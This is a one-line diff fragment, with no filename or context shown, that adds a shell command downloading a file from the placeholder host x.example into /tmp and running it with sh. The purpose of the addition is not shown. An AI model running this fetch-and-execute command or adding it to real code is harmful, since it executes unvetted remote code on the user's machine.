@@ -1,0 +1,1 @@
+curl -o /tmp/x https://x.example/x; sh /tmp/x
